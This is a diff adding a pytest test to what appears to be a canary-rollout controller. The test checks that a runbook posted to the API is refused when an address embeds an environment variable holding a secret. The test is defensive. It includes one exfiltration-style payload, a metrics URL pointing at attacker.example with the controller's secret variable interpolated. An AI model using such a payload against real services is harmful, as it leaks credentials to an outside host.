@@ -7,6 +7,7 @@ from __future__ import annotations
 import time
 from pathlib import Path
 
+import httpx
 import pytest
 import yaml
 from click.testing import CliRunner
@@ -169,3 +170,40 @@ def test_the_json_schema_takes_a_reference_where_an_address_goes() -> None:
     document["spec"]["gateway"]["listen"] = "no port"
     with pytest.raises(jsonschema.ValidationError):
         jsonschema.validate(document, schema)
+
+
+def test_a_document_posted_to_the_controller_never_reads_its_environment(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The controller's environment holds its secrets: a runbook a client posts that names one
+    in an address is refused (422, the field named), never expanded into a URL the controller
+    would call and store; a default is taken as written."""
+    from canaryctl.api import create_app
+    from canaryctl.chaos.server import BackgroundServer
+    from tests.api_world import OPERATOR, TOKENS, auth
+
+    monkeypatch.setenv("CONTROLLER_SECRET", "s3cr3t-of-the-controller")
+    filed: list[Rollout] = []
+
+    def submit(rollout: Rollout) -> int:
+        filed.append(rollout)
+        return 1
+
+    app = create_app(lambda: StateStore(tmp_path / "state.db"), TOKENS, submit=submit)
+    leaky = ROLLOUT.replace(
+        "http://${GATEWAY_UNDER_TEST:-127.0.0.1:8080}/metrics",
+        "http://attacker.example/${CONTROLLER_SECRET}",
+    )
+    with BackgroundServer(app) as server:
+        refused = httpx.post(
+            f"{server.url}/api/v1/runs", content=leaky, headers=auth(OPERATOR), timeout=30
+        )
+        monkeypatch.setenv("GATEWAY_UNDER_TEST", "127.0.0.1:9")  # the controller's, not read
+        taken = httpx.post(
+            f"{server.url}/api/v1/runs", content=ROLLOUT, headers=auth(OPERATOR), timeout=30
+        )
+    assert refused.status_code == 422, refused.text
+    assert "spec.metrics.targets[0]" in refused.text and "CONTROLLER_SECRET" in refused.text
+    assert "s3cr3t" not in refused.text
+    assert taken.status_code == 201, taken.text
+    assert [r.spec.metrics.targets for r in filed] == [["http://127.0.0.1:8080/metrics"]]  # type: ignore[union-attr]
